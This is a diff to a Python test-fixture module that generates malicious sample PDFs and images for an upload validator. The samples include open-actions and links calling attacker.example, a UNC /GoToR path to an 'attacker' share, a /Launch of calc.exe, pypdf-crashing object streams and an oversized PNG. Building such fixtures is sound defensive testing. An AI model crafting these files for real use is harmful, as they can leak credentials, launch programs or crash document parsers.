@@ -22,7 +22,13 @@ from PIL import Image, ImageChops, ImageCms, ImageDraw, ImageFont
 from PIL.ExifTags import GPS, IFD, Base
 from pypdf import PdfReader, PdfWriter
 from pypdf.actions import JavaScript
-from pypdf.generic import ArrayObject, ByteStringObject, NameObject
+from pypdf.generic import (
+    ArrayObject,
+    ByteStringObject,
+    DictionaryObject,
+    NameObject,
+    TextStringObject,
+)
 
 CARD_SIZE = (1000, 640)
 MAX_BYTES = 10 * 1024 * 1024
@@ -92,6 +98,47 @@ def _build() -> tuple[tuple[str, Sample], ...]:
         "pdf_encrypted": Sample("cni-protege.pdf", _pdf_encrypted(one_page), "pdf_encrypted"),
         "pdf_twenty_pages": Sample(
             "releve-complet.pdf", _pdf_pages(one_page, 20), "pdf_too_many_pages"
+        ),
+        # Crashed pypdf's callers: an object stream it cannot decode.
+        "pdf_unknown_filter": Sample("cni.pdf", _pdf_object_stream_in("FooDecode"), "pdf_invalid"),
+        "pdf_jbig2_object_stream": Sample(
+            "cni.pdf", _pdf_object_stream_in("JBIG2Decode"), "pdf_invalid"
+        ),
+        # Run something on opening or on a click.
+        "pdf_open_uri": Sample(
+            "cni.pdf",
+            _pdf_with_action(
+                one_page, "open", {"/S": "/URI", "/URI": "https://attacker.example/o"}
+            ),
+            "pdf_active_content",
+        ),
+        "pdf_open_gotor_unc": Sample(
+            "cni.pdf",
+            _pdf_with_action(
+                one_page, "open", {"/S": "/GoToR", "/F": "\\\\attacker\\share\\x.pdf"}
+            ),
+            "pdf_active_content",
+        ),
+        "pdf_page_aa": Sample(
+            "cni.pdf",
+            _pdf_with_action(one_page, "page_aa", {"/S": "/GoTo", "/D": "/Fit"}),
+            "pdf_active_content",
+        ),
+        "pdf_open_launch": Sample(
+            "cni.pdf",
+            _pdf_with_action(one_page, "open", {"/S": "/Launch", "/F": "calc.exe"}),
+            "pdf_active_content",
+        ),
+        "pdf_open_named": Sample(
+            "cni.pdf",
+            _pdf_with_action(one_page, "open", {"/S": "/Named", "/N": "/Print"}),
+            "pdf_active_content",
+        ),
+        "pdf_acroform": Sample("cni.pdf", _pdf_with_form(one_page), "pdf_active_content"),
+        "pdf_link_uri": Sample(
+            "cni.pdf",
+            _pdf_with_action(one_page, "link", {"/S": "/URI", "/URI": "https://attacker.example"}),
+            "pdf_active_content",
         ),
     }
     return tuple(samples.items())
@@ -337,3 +384,97 @@ def _pdf_pages(pdf: bytes, count: int) -> bytes:
     for _ in range(count):
         writer.add_page(page)
     return _written(writer)
+
+
+def _pdf_object_stream_in(filter_name: str) -> bytes:
+    """A ~12 KB PDF whose object 5 lives in an object stream compressed with `filter_name`
+    (unknown to pypdf, or one it cannot decode), listed by a cross-reference stream."""
+    packed = b"5 0 << /Type /Annot /Subtype /Text /Contents (x) >>".ljust(12_000, b" ")
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] >>",
+        b"<< /Type /ObjStm /N 1 /First 4 /Filter /"
+        + filter_name.encode()
+        + b" /Length "
+        + str(len(packed)).encode()
+        + b" >>\nstream\n"
+        + packed
+        + b"\nendstream",
+    ]
+    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
+    offsets = []
+    for number, content in enumerate(objects, start=1):
+        offsets.append(len(body))
+        body += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
+    xref_offset = len(body)
+    rows = [struct.pack(">BIH", 0, 0, 65535)]
+    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets]
+    rows.append(struct.pack(">BIH", 2, 4, 0))  # object 5: first in object stream 4
+    rows.append(struct.pack(">BIH", 1, xref_offset, 0))  # object 6: this stream
+    table = b"".join(rows)
+    body += (
+        f"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length {len(table)} >>\nstream\n"
+    ).encode()
+    body += table + b"\nendstream\nendobj\n"
+    return body + f"startxref\n{xref_offset}\n%%EOF\n".encode()
+
+
+def _pdf_with_action(pdf: bytes, where: str, action: dict[str, object]) -> bytes:
+    """`pdf` with `action` on opening (/OpenAction), as the page's /AA, or on a link."""
+    writer = _writer(pdf)
+    value = DictionaryObject(
+        {
+            NameObject(key): (
+                NameObject(item)
+                if isinstance(item, str) and item.startswith("/")
+                else TextStringObject(str(item))
+            )
+            for key, item in action.items()
+        }
+    )
+    if where == "open":
+        writer.root_object[NameObject("/OpenAction")] = value
+    elif where == "page_aa":
+        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): value})
+    else:
+        writer.add_annotation(
+            0,
+            DictionaryObject(
+                {
+                    NameObject("/Type"): NameObject("/Annot"),
+                    NameObject("/Subtype"): NameObject("/Link"),
+                    NameObject("/Rect"): writer.pages[0].mediabox,
+                    NameObject("/A"): value,
+                }
+            ),
+        )
+    return _written(writer)
+
+
+def _pdf_with_form(pdf: bytes) -> bytes:
+    writer = _writer(pdf)
+    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject()}
+    )
+    return _written(writer)
+
+
+AUTHOR = "Marie Dupont (auteur du scan)"
+
+
+def pdf_with_metadata(pdf: bytes) -> bytes:
+    """`pdf` with an /Info dictionary and an XMP stream naming its author."""
+    writer = _writer(pdf)
+    writer.add_metadata({"/Author": AUTHOR, "/Title": "CNI de Marie Dupont"})
+    writer.xmp_metadata = (
+        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/'
+        '02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">'
+        f"<dc:creator>{AUTHOR}</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>"
+    ).encode()
+    return _written(writer)
+
+
+def expensive_png() -> bytes:
+    """A 6300 × 6300 PNG of one colour: about 160 KB, 39.7 million pixels to decode."""
+    return _encoded(Image.new("RGB", (6300, 6300), (214, 226, 238)), "PNG", compress_level=9)
